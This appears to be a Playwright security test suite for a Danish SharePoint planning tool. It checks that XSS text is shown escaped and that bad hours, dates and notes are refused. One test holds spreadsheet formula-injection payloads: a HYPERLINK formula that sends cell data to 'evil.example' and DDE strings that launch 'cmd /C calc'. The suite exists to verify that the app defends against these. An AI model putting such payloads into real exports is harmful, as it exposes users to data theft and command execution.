/**
 * Hostile text in the real browser: the XSS corpus (tests/security/xss-payloads.json) sits in task
 * titles, rich descriptions, goals, method steps, notes and people's names in a private emulator
 * before the page loads. Nothing of it may run: no dialog, window.__xss never set, no inline
 * handler or foreign script/frame in the DOM, no request leaving 127.0.0.1. The text itself is
 * shown as text (so the test would see it if it were dropped instead of escaped).
 */
import { expect, test, type Page } from "@playwright/test";
import * as fs from "fs";
import { demoUrl, listItems, readLocalTask, resetEmulator, updateItem, watchPage } from "./support/journeyEmulator";

const ANNE = "Anne Kirstine Holm";
import { startHostileEmulator, writeHostileSeed, xssPayloads, type HostileSeed } from "./support/journeyHostileSeed";

let seed: HostileSeed;
let server: { url: string; close: () => Promise<void> };

test.beforeAll(async () => {
  seed = writeHostileSeed(xssPayloads());
  server = await startHostileEmulator(seed.seedFile);
});
test.afterAll(async () => {
  await server.close();
  seed.cleanup();
});

/** What the DOM holds that a payload could have put there. */
async function domFindings(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const w = window as unknown as { __xss?: unknown };
    if (w.__xss !== undefined) found.push(`window.__xss = ${String(w.__xss)}`);
    for (const el of Array.from(document.querySelectorAll("*"))) {
      for (const attr of Array.from(el.attributes)) {
        // Browsers skip whitespace and control characters in a URL's scheme ("jav\tascript:").
        const value = Array.from(attr.value)
          .filter((c) => c.charCodeAt(0) > 0x20)
          .join("")
          .toLowerCase();
        if (/^on/i.test(attr.name)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
        if (["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(attr.name.toLowerCase()) && /^(javascript|vbscript|data:text\/html)/.test(value)) {
          found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
        }
      }
    }
    for (const el of Array.from(document.querySelectorAll("iframe, object, embed, base, meta[http-equiv], frame, frameset"))) {
      found.push(`<${el.tagName.toLowerCase()}> element`);
    }
    for (const script of Array.from(document.querySelectorAll("script"))) {
      const src = script.getAttribute("src");
      if (src !== "main.js" && !(src === null && (script.textContent ?? "").includes("FabricConfig"))) found.push(`script ${src ?? script.textContent}`);
    }
    return found;
  });
}

test("the XSS corpus in titles, descriptions, notes and names is shown as text and never runs", async ({ page }) => {
  const payloads = xssPayloads();
  expect(payloads.length).toBeGreaterThanOrEqual(20);
  const watch = await watchPage(page, server.url);
  await page.goto(`${server.url}/demo/`);
  const timeline = page.getByRole("region", { name: /ØiR-tidsplan/ });
  const grid = page.getByRole("grid", { name: /^Tidsplan for/ });
  await expect(grid).toBeVisible();

  // Titles: the rows carry the payloads as literal text.
  const pl12Title = seed.titles.get("PL 12") ?? "";
  await expect(grid.getByRole("button", { name: /^PL 12 / })).toBeVisible();
  await expect(timeline).toContainText(pl12Title);
  const pl10Title = seed.titles.get("PL 10") ?? "";
  await expect(timeline).toContainText(pl10Title);

  // PL 12's panel: every payload in its rich description, a note, goal, steps, people.
  await grid.getByRole("button", { name: /^PL 12 / }).click();
  const panel = page.getByRole("dialog", { name: /^PL 12 / });
  await expect(panel.getByRole("heading", { name: /^PL 12 / })).toBeVisible();
  await expect(panel.getByRole("textbox", { name: "Note" })).toHaveValue(/^Note /);
  await expect(panel).toContainText("Mål ");
  await expect(panel).toContainText("klik her");
  await panel.getByText(/^Resultat /).scrollIntoViewIfNeeded();
  // Suggestions list people by their (hostile) names.
  await panel.getByRole("list", { name: "Udfører" }).getByRole("button", { name: /^Fjern personen/ }).click();
  await panel.getByRole("combobox", { name: "Udfører" }).fill("a");
  await expect(page.getByRole("option").first()).toBeVisible();
  const anne = seed.names.get("anne.holm@eksempelkommune.dk") ?? "";
  await expect(panel.getByRole("list", { name: "Ansvarlig" })).toContainText(anne);
  await page.keyboard.press("Escape");
  // The removed person is a change in the panel's draft: closing asks first.
  await panel.getByRole("button", { name: "Annullér" }).click();
  await page.getByRole("alertdialog", { name: "Luk uden at gemme?" }).getByRole("button", { name: "Luk uden at gemme" }).click();

  // A webinar's attendees and the booking web part show the names as text too.
  await grid.getByRole("button", { name: /^WE 01 / }).click();
  const webinar = page.getByRole("dialog", { name: /^WE 01 / });
  await expect(webinar.getByRole("group", { name: "Deltagere fra kommunen" })).toContainText(anne);
  await webinar.getByRole("button", { name: "Luk" }).last().click();
  const booking = page.getByRole("region", { name: /Ressourcebooking/ });
  await expect(booking.getByRole("table", { name: "Lokal arbejdsgruppe" })).toContainText(anne);

  // Hover and focus across the page give any surviving handler its chance.
  for (const row of (await grid.getByRole("row").all()).slice(0, 12)) await row.hover();

  expect(await domFindings(page)).toEqual([]);
  expect(watch.dialogs).toEqual([]);
  expect(watch.foreignRequests).toEqual([]);
  expect(watch.errors.filter((e) => !/Failed to load resource/.test(e))).toEqual([]);
});

test.describe("bad input in the editable fields", () => {
  test.beforeEach(async ({ request }) => resetEmulator(request));
  test.afterEach(async ({ request }) => resetEmulator(request));

  test("impossible hours and capacities get a Danish message and nothing is saved", async ({ page, request }) => {
    const watch = await watchPage(page);
    const pl12Before = await readLocalTask(request, 519);
    const bookingsBefore = await listItems<Record<string, unknown>>(request, "Ressourcebookinger", "$select=Id,OirHours,OirWeek,OirPersonId,OirTaskId");
    const membersBefore = await listItems<Record<string, unknown>>(request, "Arbejdsgruppe", "$select=Id,OirWeeklyCapacity,OirRoles,OirPersonId");
    await page.goto(demoUrl());
    await expect(page.getByRole("grid", { name: /^Tidsplan for/ })).toBeVisible();
    // Hours in the booking grid: negative, over 60, words, a list.
    const booking = page.getByRole("region", { name: /Ressourcebooking/ });
    const hoursGrid = booking.getByRole("grid", { name: "Booket tid pr. person og uge" });
    await hoursGrid.getByRole("button", { name: `Vis opgaver for ${ANNE}` }).click();
    const cell = hoursGrid.getByRole("gridcell", { name: new RegExp(`^${ANNE}, PL 12, uge 8 \\(22\\.02\\.2027\\)`) });
    const cellLabel = await cell.getAttribute("aria-label");
    const messages: Record<string, string> = {
      "-1": "Timer kan ikke være negative.",
      "61": "Højst 60 timer pr. uge på én opgave.",
      abc: "Skriv et tal, fx 7,5.",
      "1,2,3": "Skriv et tal, fx 7,5."
    };
    for (const [bad, message] of Object.entries(messages)) {
      await cell.click();
      await page.keyboard.type(bad);
      await page.keyboard.press("Enter");
      await expect(booking.getByText(message).first()).toBeVisible();
      await page.keyboard.press("Escape");
      await expect(cell).toHaveAttribute("aria-label", cellLabel ?? "");
    }

    // Capacity: words, zero, negative, over 60.
    const capacity = booking.getByRole("textbox", { name: `Timer pr. uge for ${ANNE}` });
    const capacityBefore = await capacity.inputValue();
    for (const bad of ["abc", "0", "-1", "61", "1,2,3"]) {
      await capacity.fill(bad);
      await capacity.press("Enter");
      await expect(booking.getByText("Skriv timer pr. uge som et tal over 0 og højst 60, fx 7,5.")).toBeVisible();
      await capacity.press("Escape");
      await expect(capacity).toHaveValue(capacityBefore);
    }

    // Nothing of it reached SharePoint.
    await expect(booking.getByText(/Gemmer ændringer/)).toHaveCount(0);
    const pl12After = await readLocalTask(request, 519);
    expect({ ...pl12After, Modified: undefined }).toEqual({ ...pl12Before, Modified: undefined });
    expect(await listItems(request, "Ressourcebookinger", "$select=Id,OirHours,OirWeek,OirPersonId,OirTaskId")).toEqual(bookingsBefore);
    expect(await listItems(request, "Arbejdsgruppe", "$select=Id,OirWeeklyCapacity,OirRoles,OirPersonId")).toEqual(membersBefore);
    expect(watch.errors).toEqual([]);
  });
  test("impossible dates in the task panel get a Danish message and nothing is saved", async ({ page, request }) => {
    const watch = await watchPage(page);
    const pl12Before = await readLocalTask(request, 519);
    await page.goto(demoUrl());
    const grid = page.getByRole("grid", { name: /^Tidsplan for/ });
    await grid.getByRole("button", { name: /^PL 12 / }).click();
    const panel = page.getByRole("dialog", { name: /^PL 12 / });
    await expect(panel.getByRole("heading", { name: /^PL 12 / })).toBeVisible();

    // 31 February, month 13, words: typed and left with Tab. Each field says so in Danish (no
    // English from Fluent) and keeps its date.
    for (const label of ["Startdato", "Slutdato"]) {
      const field = panel.getByRole("combobox", { name: label });
      const before = await field.inputValue();
      for (const bad of ["31-02-2027", "2027-13-01", "i næste uge"]) {
        await field.fill(bad);
        await field.press("Tab");
        await expect(field).toHaveAccessibleDescription(/Skriv datoen som dd\.mm\.åååå\./);
        await expect(panel.getByText("Skriv datoen som dd.mm.åååå.").first()).toBeVisible();
        await expect(panel.getByText(/Invalid/)).toHaveCount(0);
        await expect(field).toHaveValue(before);
      }
    }
    await expect(panel.getByRole("button", { name: "Gem" })).toBeDisabled();

    // An end before the start is refused too.
    const end = panel.getByRole("combobox", { name: "Slutdato" });
    await end.fill("01.01.2027");
    await end.press("Tab");
    await expect(panel.getByText("Slutdatoen må ikke ligge før startdatoen.")).toBeVisible();
    await expect(panel.getByRole("button", { name: "Gem" })).toBeDisabled();
    await panel.getByRole("button", { name: "Annullér" }).click();
    await page.getByRole("alertdialog", { name: "Luk uden at gemme?" }).getByRole("button", { name: "Luk uden at gemme" }).click();

    const pl12After = await readLocalTask(request, 519);
    expect(pl12After).toEqual(pl12Before);
    expect(watch.errors).toEqual([]);
  });
  test("a note over SharePoint's 63,999 characters gets a Danish message and is not saved", async ({ page, request }) => {
    const pl12Before = await readLocalTask(request, 519);
    await page.goto(demoUrl());
    await page.getByRole("grid", { name: /^Tidsplan for/ }).getByRole("button", { name: /^PL 12 / }).click();
    const panel = page.getByRole("dialog", { name: /^PL 12 / });
    await expect(panel.getByRole("heading", { name: /^PL 12 / })).toBeVisible();
    const note = panel.getByRole("textbox", { name: "Note" });
    const save = panel.getByRole("button", { name: "Gem" });

    await note.fill("x".repeat(64000));
    await expect(panel.getByText("Noten må højst have 63.999 tegn. Den har 64.000.")).toBeVisible();
    await expect(save).toBeDisabled();
    // At the limit it may be saved.
    await note.fill("x".repeat(63999));
    await expect(panel.getByText(/^Noten må højst have/)).toHaveCount(0);
    await expect(save).toBeEnabled();
    await note.fill("x".repeat(70000));
    await expect(save).toBeDisabled();
    await save.click({ force: true });
    await panel.getByRole("button", { name: "Annullér" }).click();
    await page.getByRole("alertdialog", { name: "Luk uden at gemme?" }).getByRole("button", { name: "Luk uden at gemme" }).click();
    expect((await readLocalTask(request, 519)).OirNote).toBe(pl12Before.OirNote);
  });
  test("a note Excel would run as a formula is exported as text", async ({ page, request }) => {
    const pl12 = await readLocalTask(request, 519);
    const formulas = ['=HYPERLINK("https://evil.example/?d="&A1;"Åbn")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"];
    for (const [i, code] of [519, 512, 513, 501].entries()) {
      const item = code === 519 ? pl12 : await readLocalTask(request, code);
      await updateItem(request, "Planer", item.Id, { OirNote: formulas[i] });
    }
    await page.goto(demoUrl());
    const timeline = page.getByRole("region", { name: /ØiR-tidsplan/ });
    await expect(page.getByRole("grid", { name: /^Tidsplan for/ })).toBeVisible();
    await timeline.getByRole("button", { name: "Eksportér" }).click();
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("menuitem", { name: /CSV/ }).click()]);
    const csv = fs.readFileSync((await download.path()) ?? "", "utf8");
    // Every field (after its optional quote) that starts like a formula starts with ' instead.
    const fields = csv.split(/;|\r\n/).map((f) => f.replace(/^"/, ""));
    expect(fields.filter((f) => /^[=+\-@]/.test(f) && !/^-\d+$/.test(f))).toEqual([]);
    for (const formula of formulas) expect(csv).toContain(`'${formula.replace(/"/g, '""')}`);
  });
  test("the working-group form refuses a missing person, no role and impossible hours in Danish", async ({ page, request }) => {
    const membersBefore = await listItems<Record<string, unknown>>(request, "Arbejdsgruppe", "$select=Id,OirWeeklyCapacity,OirRoles,OirPersonId");
    await page.goto(demoUrl());
    const booking = page.getByRole("region", { name: /Ressourcebooking/ });
    const form = booking.getByRole("form", { name: "Tilføj til arbejdsgruppen" });
    const add = form.getByRole("button", { name: "Tilføj til arbejdsgruppen" });
    // The form is usable once the plan is loaded (the grid is there).
    await expect(booking.getByRole("grid", { name: "Booket tid pr. person og uge" })).toBeVisible();
    await add.click();
    await expect(form.getByText("Vælg en person.")).toBeVisible();
    await form.getByRole("combobox", { name: "Person" }).fill("Jesper");
    await page.getByRole("option", { name: /Jesper Dahl Andersen/ }).click();
    await add.click();
    await expect(form.getByText("Vælg mindst én rolle.")).toBeVisible();
    await form.getByRole("combobox", { name: /Roller/ }).click();
    await page.getByRole("listbox").getByText("KY-projektleder", { exact: true }).click();
    await page.keyboard.press("Escape");
    const hours = form.getByRole("textbox", { name: /Timer pr\. uge/ });
    for (const bad of ["abc", "-1", "61", "1,2,3", "0"]) {
      await hours.fill(bad);
      await add.click();
      await expect(form.getByText("Skriv timer pr. uge som et tal over 0 og højst 60, fx 7,5.")).toBeVisible();
    }
    await expect(booking.getByText(/er tilføjet arbejdsgruppen/)).toHaveCount(0);
    expect(await listItems(request, "Arbejdsgruppe", "$select=Id,OirWeeklyCapacity,OirRoles,OirPersonId")).toEqual(membersBefore);
  });
});
